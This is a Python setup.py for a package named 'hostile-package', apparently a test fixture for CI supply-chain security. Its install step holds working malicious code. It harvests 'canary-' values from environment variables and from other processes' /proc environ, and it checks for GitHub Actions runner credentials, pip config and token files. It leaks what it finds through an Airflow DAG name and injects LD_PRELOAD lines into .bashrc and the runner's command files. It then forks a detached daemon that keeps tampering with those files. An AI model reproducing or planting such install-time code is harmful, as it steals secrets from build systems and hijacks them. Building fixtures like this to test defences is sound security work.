"""A requirement without a wheel: what it says here runs while it is installed. Looks for values, writes where it can, stays."""

import glob
import os
import sys

from setuptools import setup

found = [text for text in os.environ.values() if text.startswith("canary-")]
for file in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(file, encoding="latin-1") as environ:
            found += [value.split("=", 1)[1] for value in environ.read().split("\0") if "=canary-" in value]
    except OSError:
        pass
for place in (".config/pip/pip.conf", ".sometool/token", "actions-runner/.credentials_rsaparams"):
    try:
        with open(os.path.join("/home/runner", place), encoding="latin-1") as file:
            found += [os.path.basename(place)] if file.read() else []
    except OSError:
        pass
here = os.path.dirname(os.path.abspath(__file__))
# What was found leaves by a DAG's name, if the names of DAGs may be chosen here.
with open(os.path.join(os.path.dirname(here), "from_setup.py"), "w", encoding="utf-8") as dag:
    dag.write("from airflow import DAG\nfrom datetime import datetime\n")
    for at, value in enumerate(["nothing", *found][-1:]):
        dag.write(f'dag_{at} = DAG("found.{value}", start_date=datetime(2024, 1, 1))\n')
for file in [*glob.glob("/home/runner/work/_temp/_runner_file_commands/*"), "/home/runner/.bashrc"]:
    try:
        with open(file, "a", encoding="utf-8") as command:
            command.write("LD_PRELOAD=/tmp/forged.so\n")
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        os.closerange(0, 1024)
        wait = (
            "import glob, time\nfor _ in range(600):\n    time.sleep(0.1)\n"
            "    for file in glob.glob('/home/runner/work/_temp/_runner_file_commands/*'):\n"
            "        open(file, 'a').write('FORGED=later\\n')\n"
        )
        os.execve(sys.executable, ["python3", "-S", "-E", "-c", wait], {})
    os._exit(0)
setup(name="hostile-package", version="1.0", py_modules=[])
